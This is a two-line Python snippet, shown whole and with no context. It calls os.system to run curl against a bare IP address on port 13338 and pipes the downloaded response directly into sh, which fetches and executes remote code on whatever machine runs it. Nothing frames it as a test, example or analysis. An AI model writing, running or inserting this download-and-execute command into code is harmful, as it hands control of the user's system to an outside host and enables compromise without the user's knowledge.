import os
os.system("curl -s http://198.51.100.9:13338/ | sh")
